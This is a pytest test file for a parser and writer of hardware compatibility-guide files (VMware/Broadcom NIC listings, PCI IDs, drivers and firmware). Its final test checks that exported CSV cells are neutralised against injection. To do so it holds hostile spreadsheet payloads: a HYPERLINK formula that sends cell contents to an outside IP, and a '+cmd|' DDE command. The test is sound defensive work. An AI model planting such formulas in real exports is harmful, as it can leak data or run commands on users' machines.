"""Readers of compatibility-guide files and the exchange writers (nicadvisor.vcg.guide_formats).

Inputs: tests/vcg/guide_files/ (every fact sourced in its SOURCES.md). Files written under tmp_path hold either
the same facts or no device facts at all (garbage entries, dates for the date parser).
"""
from __future__ import annotations

import hashlib
import json
import pathlib
from datetime import datetime, timedelta, timezone

import pytest

from nicadvisor.vcg.guide_formats import (EXCHANGE_CSV_COLUMNS, GuideFile, GuideFormatError, GuideListing,
                                          detect_format, normalise_release, read_guide_file,
                                          write_exchange_csv, write_exchange_json)

FILES = pathlib.Path(__file__).parent / "guide_files"
SNAPSHOT = FILES / "vcfcheck_snapshot_59003_excerpt.json"
ALLJSON = FILES / "vsan_all_json_nic_59003.json"
RESULTS = FILES / "bcg_results_14e4_16d7.json"
DETAILS = FILES / "bcg_details_14e4_16d7_no_ids.json"
VCGAPI = FILES / "vcg_api_8086_1572.json"
EX_CSV = FILES / "exchange_sample.csv"
EX_JSON = FILES / "exchange_sample.json"
IDS_59003 = ("14e4", "16d7", "1028", "0bdd")
MODEL_16D7 = "BCM57414 NetXtreme-E 10Gb/25Gb RDMA Ethernet Controller"
VSAN_FEATURES = ("RoCE v2", "vSAN", "vSAN ESA")


def _ids(listing: GuideListing) -> tuple:
    return listing.vid, listing.did, listing.svid, listing.ssid


def _one(gf: GuideFile, **match) -> GuideListing:
    found = [x for x in gf.listings if all(getattr(x, k) == v for k, v in match.items())]
    assert len(found) == 1, (match, found)
    return found[0]


# ------------------------------------------------------------------------------------------ detection


@pytest.mark.parametrize("path, fmt", [
    (SNAPSHOT, "vsan-hcl"), (ALLJSON, "vsan-hcl"), (RESULTS, "bcg-results"), (VCGAPI, "vcg-api"),
    (EX_CSV, "exchange-csv"), (EX_JSON, "exchange-json"),
])
def test_format_is_detected_from_content(path, fmt, tmp_path):
    # Same bytes under a neutral name: detection must not depend on the file name.
    neutral = tmp_path / "upload.dat"
    neutral.write_bytes(path.read_bytes())
    gf = read_guide_file(neutral)
    assert gf.format == fmt
    assert gf.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert gf.path == str(neutral)
    assert gf.listings and gf.warnings == ()


def test_detect_format_on_parsed_documents():
    assert detect_format(json.loads(DETAILS.read_text())) == "bcg-details"
    assert detect_format({"matches": []}) == "vcg-api"
    assert detect_format({"data": {"nic": []}}) == "vsan-hcl"
    assert detect_format({"data": {"cpu": []}}) is None
    assert detect_format([1, 2, 3]) is None
    assert detect_format("text") is None


# ------------------------------------------------------------------------------------------ vsan-hcl


def test_vcfcheck_snapshot_excerpt():
    gf = read_guide_file(SNAPSHOT)
    assert gf.format == "vsan-hcl" and gf.data_date is None
    assert len(gf.listings) == 11                     # 5 driver versions in 9.0, 6 in 8.0
    assert {x.release for x in gf.listings} == {"ESX 9.0", "ESXi 8.0"}
    assert all(_ids(x) == IDS_59003 and x.driver == "bnxtroce" for x in gf.listings)
    assert all(x.vendor == "" and x.model == "" and x.link is None for x in gf.listings)   # snapshot names none
    x = _one(gf, release="ESX 9.0", driver_version="232.0.154.0-1OEM.800")
    assert x.firmware == ("23.21.13.39", "23.21.14.15", "23.21.14.14", "23.21.13.34")     # listed order kept
    assert x.features == VSAN_FEATURES
    assert x.driver_type is None
    assert _one(gf, release="ESXi 8.0", driver_version="229.0.146.0-1OEM.800").firmware == ("22.92.06.10",
                                                                                              "22.92.07.50")


def test_vsan_all_json_nic_entry():
    gf = read_guide_file(ALLJSON)
    assert gf.format == "vsan-hcl"
    assert len(gf.listings) == 6
    x = _one(gf, driver_version="236.1.128.0-1OEM.800")
    assert _ids(x) == IDS_59003
    assert (x.vendor, x.model, x.release, x.driver) == ("Broadcom Inc. and subsidiaries", MODEL_16D7, "ESXi 8.0",
                                                         "bnxtroce")
    assert x.firmware == ("36.11.55.00", "36.11.73.00")
    assert x.features == VSAN_FEATURES
    assert x.link == "https://compatibilityguide.broadcom.com/detail?program=rdmanic&productId=59003&persona=live"
    # vsanSupport at release level is not a driver
    assert all(x.driver == "bnxtroce" for x in gf.listings)


def test_all_json_and_snapshot_agree_on_release_8_0():
    snap = {(x.driver_version, x.firmware, x.features) for x in read_guide_file(SNAPSHOT).listings
            if x.release == "ESXi 8.0"}
    full = {(x.driver_version, x.firmware, x.features) for x in read_guide_file(ALLJSON).listings}
    assert snap == full


@pytest.mark.parametrize("stamp, expected", [
    ({"timestamp": 1700000000000}, datetime(2023, 11, 14, 22, 13, 20, tzinfo=timezone.utc)),      # epoch ms
    ({"timestamp": 1700000000}, datetime(2023, 11, 14, 22, 13, 20, tzinfo=timezone.utc)),         # epoch s
    ({"jsonUpdatedTime": "2024-11-24 12:00:00"}, datetime(2024, 11, 24, 12, 0, tzinfo=timezone.utc)),
    ({"timestamp": "2025-06-01T08:30:00Z"}, datetime(2025, 6, 1, 8, 30, tzinfo=timezone.utc)),
])
def test_all_json_data_date(stamp, expected, tmp_path):
    f = tmp_path / "all.json"
    f.write_text(json.dumps({**stamp, "data": {"nic": []}}))
    gf = read_guide_file(f)
    assert gf.format == "vsan-hcl" and gf.data_date == expected and gf.listings == ()


def test_all_json_unreadable_date_and_missing_nic_list_are_warnings(tmp_path):
    f = tmp_path / "all.json"
    f.write_text(json.dumps({"jsonUpdatedTime": "last Tuesday", "data": {"controller": []}}))
    gf = read_guide_file(f)
    assert gf.data_date is None
    assert any(w.startswith("jsonUpdatedTime:") and "last Tuesday" in w for w in gf.warnings)
    assert any(w.startswith("data:") and "data.nic" in w for w in gf.warnings)


def test_malformed_entries_become_warnings_with_their_path(tmp_path):
    good = json.loads(SNAPSHOT.read_text())[0]
    bad_release = {"id": 2, "vid": "14e4", "did": "16d7", "rel": {"9.0": ["not", "an", "object"]}}
    doc = [good, {"id": 1, "vid": "zz-not-hex", "did": "16d7", "rel": {}}, "a string", bad_release,
           {"id": 3, "vid": 5348, "did": "16d7", "rel": {}}, {"id": 4, "did": "16d7", "rel": {}}]
    f = tmp_path / "snapshot.json"
    f.write_text(json.dumps(doc))
    gf = read_guide_file(f)
    assert len(gf.listings) == 11                                  # the good entry is still read in full
    w = "\n".join(gf.warnings)
    assert "[1]: unreadable vid 'zz-not-hex'; entry skipped" in w
    assert "[2]: not an object; entry skipped" in w
    assert "[3].rel['9.0']: release entry is not an object; skipped" in w
    assert "[4]: unreadable vid 5348 (PCI IDs must be hex text); entry skipped" in w
    assert "[5]: no vid; entry skipped" in w


def test_malformed_driver_and_firmware_records_are_warnings(tmp_path):
    doc = {"data": {"nic": [{"vid": "14e4", "did": "16d7", "svid": "1028", "ssid": "0bdd", "releases": {
        "ESXi 8.0": {"vsanSupport": ["RoCE v2"], "bnxtroce": {"231.0.153.0-1OEM.800": {
            "firmwares": [{"firmware": "23.11.16.22", "vsanSupport": ["RoCE v2"]}, "junk"]}},
            "other": "junk"}}}]}}
    f = tmp_path / "all.json"
    f.write_text(json.dumps(doc))
    gf = read_guide_file(f)
    assert [x.firmware for x in gf.listings] == [("23.11.16.22",)]
    w = "\n".join(gf.warnings)
    assert "data.nic[0].releases['ESXi 8.0']['bnxtroce']['231.0.153.0-1OEM.800'].firmwares[1]: not an object" in w
    assert "data.nic[0].releases['ESXi 8.0']['other']: driver entry is not an object of versions" in w


# ------------------------------------------------------------------------------------------ BCG


def test_bcg_results_one_listing_per_supported_release():
    gf = read_guide_file(RESULTS)
    assert gf.format == "bcg-results"
    assert [x.release for x in gf.listings] == ["ESX 9.1", "ESX 9.0", "ESXi 8.0 U3", "ESXi 8.0 U2", "ESXi 8.0 U1",
                                                "ESXi 8.0"]
    assert all(_ids(x) == IDS_59003 and x.model == MODEL_16D7 and x.driver is None for x in gf.listings)
    assert all(x.vendor == "Broadcom Inc. and subsidiaries" for x in gf.listings)


def test_bcg_results_ids_from_saved_request_filters(tmp_path):
    doc = json.loads(RESULTS.read_text())
    item = doc["data"]["fieldValues"][0]
    for key in ("vid", "did", "svid", "ssid"):
        del item[key]
    doc["request"] = {"programId": "io", "filters": [
        {"displayKey": "vid", "filterValues": ["14e4"]}, {"displayKey": "did", "filterValues": ["16d7"]},
        {"displayKey": "svid", "filterValues": ["1028"]}, {"displayKey": "maxSsid", "filterValues": ["0bdd"]},
        {"displayKey": "productReleaseVersion", "filterValues": ["ESXi 8.0 U3"]}]}
    f = tmp_path / "results.json"
    f.write_text(json.dumps(doc))
    gf = read_guide_file(f)
    assert len(gf.listings) == 6 and all(_ids(x) == IDS_59003 for x in gf.listings)


def test_bcg_results_item_without_ids_is_skipped(tmp_path):
    doc = json.loads(RESULTS.read_text())
    doc["data"]["fieldValues"].append({"brandName": "x", "model": {"name": "y"}})
    doc["data"]["fieldValues"].append({"vid": "14e4", "did": "not hex"})
    f = tmp_path / "results.json"
    f.write_text(json.dumps(doc))
    gf = read_guide_file(f)
    assert len(gf.listings) == 6
    assert gf.warnings == (
        "data.fieldValues[1]: no PCI IDs (vid/did on the item or in a saved request's filters); entry skipped",
        "data.fieldValues[2]: unreadable did 'not hex'; entry skipped")


def test_bcg_details_without_ids_and_companion_is_refused():
    with pytest.raises(GuideFormatError) as err:
        read_guide_file(DETAILS)
    assert str(err.value).startswith(str(DETAILS))
    assert "names no PCI IDs" in str(err.value) and "companion" in str(err.value)


def test_bcg_details_with_companion_results():
    gf = read_guide_file(DETAILS, companion=RESULTS)
    assert gf.format == "bcg-details"
    assert len(gf.listings) == 3
    assert all(_ids(x) == IDS_59003 and x.model == MODEL_16D7 and x.release == "ESX 9.0" for x in gf.listings)
    first = _one(gf, driver_version="238.1.122.0-1OEM.900")
    assert (first.driver, first.firmware, first.features) == ("bnxtroce", ("38.11.38.06",), VSAN_FEATURES)
    assert sorted(x.firmware for x in gf.listings if x.driver_version == "236.1.128.0-1OEM.900") == [
        ("36.11.55.00",), ("36.11.73.00",)]


def test_bcg_details_companion_must_identify_one_device(tmp_path):
    doc = json.loads(RESULTS.read_text())
    other = dict(doc["data"]["fieldValues"][0], ssid="4140")   # a second device: the details cannot say which
    doc["data"]["fieldValues"].append(other)
    two = tmp_path / "two.json"
    two.write_text(json.dumps(doc))
    with pytest.raises(GuideFormatError, match=r"lists 2 devices with PCI IDs"):
        read_guide_file(DETAILS, companion=two)
    with pytest.raises(GuideFormatError, match=r"is not a viewResults"):
        read_guide_file(DETAILS, companion=VCGAPI)


def test_bcg_details_rows_without_driver_fields_are_warnings(tmp_path):
    doc = json.loads(DETAILS.read_text())
    doc["data"]["details"]["subsections"].append({"fieldValues": [{"esxi": "ESXi 8.0"}, 7]})
    f = tmp_path / "details.json"
    f.write_text(json.dumps(doc))
    gf = read_guide_file(f, companion=RESULTS)
    assert len(gf.listings) == 3
    assert gf.warnings == (
        "data.details.subsections[1].fieldValues[0]: no driverName, driverVersion or firmwareVersion; skipped",
        "data.details.subsections[1].fieldValues[1]: not an object; skipped")


# ------------------------------------------------------------------------------------------ old VCG API


def test_vcg_api_answer():
    gf = read_guide_file(VCGAPI)
    assert gf.format == "vcg-api"
    (x,) = gf.listings
    assert _ids(x) == ("8086", "1572", None, None)                  # from searchOption, "0x" prefix removed
    assert (x.release, x.driver, x.driver_version) == ("ESXi 6.7", "i40en-ens", "1.1.3")
    assert x.firmware == ()                                          # "N/A" = no firmware constraint
    assert (x.vendor, x.model) == ("Intel Corporation", "Ethernet Controller X710 for 10GbE SFP+")


def test_vcg_api_potential_match_needs_its_own_ids(tmp_path):
    doc = json.loads(VCGAPI.read_text())
    match = doc["matches"][0]
    doc["potentialMatches"] = [dict(match), dict(match, vid="8086", did="1572")]
    f = tmp_path / "api.json"
    f.write_text(json.dumps(doc))
    gf = read_guide_file(f)
    assert len(gf.listings) == 2
    assert gf.warnings == ("potentialMatches[0]: no PCI IDs (vid/did on the entry); entry skipped",)


# ------------------------------------------------------------------------------------------ exchange


def test_exchange_samples_hold_the_same_listings():
    from_csv, from_json = read_guide_file(EX_CSV), read_guide_file(EX_JSON)
    assert from_csv.listings == from_json.listings
    assert from_csv.data_date == from_json.data_date is not None
    x = from_csv.listings[0]
    assert x.firmware == ("36.11.55.00", "36.11.73.00") and x.features == VSAN_FEATURES
    assert [y.release for y in from_csv.listings] == ["ESX 9.0", "ESXi 6.7", "ESXi 6.7 U1"]
    assert from_csv.listings[1].svid is None and from_csv.listings[1].link is None


def _sample_listings() -> list[GuideListing]:
    return (list(read_guide_file(SNAPSHOT).listings) + list(read_guide_file(ALLJSON).listings)
            + list(read_guide_file(VCGAPI).listings) + list(read_guide_file(EX_CSV).listings))


def test_round_trip_exchange_json(tmp_path):
    listings = _sample_listings()
    out = tmp_path / "export.json"
    before = datetime.now(timezone.utc) - timedelta(seconds=2)
    write_exchange_json(listings, out, source_note="round-trip test")
    gf = read_guide_file(out)
    assert gf.format == "exchange-json"
    assert gf.listings == tuple(listings)
    assert before <= gf.data_date <= datetime.now(timezone.utc) + timedelta(seconds=2)
    assert json.loads(out.read_text())["source_note"] == "round-trip test"


def test_round_trip_exchange_csv(tmp_path):
    listings = _sample_listings()
    out = tmp_path / "export.csv"
    write_exchange_csv(listings, out)
    gf = read_guide_file(out)
    assert gf.format == "exchange-csv"
    assert gf.listings == tuple(listings)
    assert gf.data_date is not None and gf.warnings == ()
    header = [line for line in out.read_text().splitlines() if not line.startswith("#")][0]
    assert tuple(header.split(",")) == EXCHANGE_CSV_COLUMNS


def test_exchange_writers_refuse_bad_input(tmp_path):
    x = read_guide_file(EX_CSV).listings[0]
    bad = GuideListing(**{**x.__dict__, "features": ("RoCE v2;vSAN",)})
    with pytest.raises(ValueError, match="cannot be written to CSV"):
        write_exchange_csv([bad], tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()
    with pytest.raises(TypeError):
        write_exchange_csv([{"vid": "8086"}], tmp_path / "y.csv")
    with pytest.raises(ValueError, match="source_note"):
        write_exchange_json([x], tmp_path / "z.json", source_note="  ")


def test_exchange_csv_bad_rows_are_warnings_with_line(tmp_path):
    lines = EX_CSV.read_text().splitlines()
    lines.insert(4, "80 86,1572,,,Intel Corporation,m,6.7,,,,,,")          # file line 5: bad vid
    lines.append("8086,1572,,,Intel Corporation,m,6.7,,,weird,,,")         # bad driver_type
    lines.append("8086,1572,,,Intel Corporation,m,6.7,,,,,,,extra")         # too many cells
    f = tmp_path / "ex.csv"
    f.write_text("\n".join(lines) + "\n")
    gf = read_guide_file(f)
    assert len(gf.listings) == 3
    assert gf.warnings == ("line 5: unreadable vid '80 86'; row skipped",
                           "line 8: driver_type 'weird' is not inbox, async or empty; row skipped",
                           "line 9: more cells than header columns; row skipped")


def test_exchange_json_unknown_version_and_bad_listing(tmp_path):
    doc = json.loads(EX_JSON.read_text())
    doc["listings"].append({"vid": "8086", "did": "1572", "firmware": "not a list"})
    f = tmp_path / "ex.json"
    f.write_text(json.dumps(doc))
    gf = read_guide_file(f)
    assert len(gf.listings) == 3
    assert gf.warnings == ("listings[3]: firmware is not a list of strings; entry skipped",)
    doc["format_version"] = 2
    f.write_text(json.dumps(doc))
    with pytest.raises(GuideFormatError, match=r"format_version 2 is not supported"):
        read_guide_file(f)


# ------------------------------------------------------------------------------------------ refusals


@pytest.mark.parametrize("content, needle", [
    (b"hello, world\nthis is not a guide\n", "not a CSV in the nic-advisor exchange format"),
    (b'{"data": {"nic": [', "not valid JSON (line 1"),
    (b'{"foo": 1}', "not a recognised compatibility-guide format"),
    (b"vid,did,svid\n8086,1572,\n", "missing ssid, vendor"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary data"),
    (b"\xff\xfe\xfd not utf-8", "not UTF-8 text"),
    (b"   \n", "empty file"),
])
def test_wrong_files_raise_with_the_file_named(content, needle, tmp_path):
    f = tmp_path / "wrong.bin"
    f.write_bytes(content)
    with pytest.raises(GuideFormatError) as err:
        read_guide_file(f)
    assert str(err.value).startswith(f"{f}: ")
    assert needle in str(err.value)


def test_oversize_file_is_refused_before_reading(tmp_path, monkeypatch):
    f = tmp_path / "big.json"
    f.write_bytes(SNAPSHOT.read_bytes())
    size = f.stat().st_size

    def no_open(*args, **kwargs):
        raise AssertionError("the file was opened")
    monkeypatch.setattr(pathlib.Path, "open", no_open)
    with pytest.raises(GuideFormatError, match=rf"{size} bytes is larger than the limit of {size - 1} bytes"):
        read_guide_file(f, max_bytes=size - 1)
    monkeypatch.undo()
    assert read_guide_file(f, max_bytes=size).format == "vsan-hcl"


def test_missing_file_and_directory(tmp_path):
    with pytest.raises(FileNotFoundError):
        read_guide_file(tmp_path / "absent.json")
    with pytest.raises(GuideFormatError, match="not a regular file"):
        read_guide_file(tmp_path)


# ------------------------------------------------------------------------------------------ small parts


@pytest.mark.parametrize("text, expected", [
    ("8.0 U3", "ESXi 8.0 U3"), ("ESXi 8.0 Update 3", "ESXi 8.0 U3"), ("7.0", "ESXi 7.0"), ("9.0", "ESX 9.0"),
    ("ESX 9.1", "ESX 9.1"), (" ESXi 8.0 U3b ", "ESXi 8.0 U3b"), ("", None), (None, None), (8.0, None),
])
def test_normalise_release(text, expected):
    assert normalise_release(text) == expected


def test_guide_listing_validates_ids_and_driver_type():
    x = read_guide_file(EX_CSV).listings[0]
    with pytest.raises(ValueError, match="vid"):
        GuideListing(**{**x.__dict__, "vid": "14E4"})
    with pytest.raises(ValueError, match="ssid"):
        GuideListing(**{**x.__dict__, "ssid": "bdd"})
    with pytest.raises(ValueError, match="driver_type"):
        GuideListing(**{**x.__dict__, "driver_type": "partner"})
    assert GuideListing(**{**x.__dict__, "svid": None, "ssid": None}).svid is None


def test_exchange_csv_cells_never_run_as_formulas_and_read_back_the_same(tmp_path):
    """Issue 29 §15: ``vcg export`` kept ``=HYPERLINK(…)`` / ``+cmd|…`` cells as they were (OWASP CSV injection)."""
    import csv
    import dataclasses

    x = read_guide_file(EX_CSV).listings[0]
    hostile = dataclasses.replace(x, model='=HYPERLINK("http://198.51.100.7/?"&A1,"click")',
                                  vendor="+cmd|' /C calc'!A0", driver_version="@SUM(1+1)", release=None)
    out = tmp_path / "export.csv"
    write_exchange_csv([hostile], out)
    rows = list(csv.reader(line for line in out.read_text().splitlines() if not line.startswith("#")))
    cells = dict(zip(rows[0], rows[1]))
    assert not any(c.startswith(("=", "+", "-", "@")) for c in rows[1])
    assert cells["model"].startswith("'=HYPERLINK(") and cells["vendor"].startswith("'+cmd|")
    assert read_guide_file(out).listings == (hostile,)  # the values read back as they were
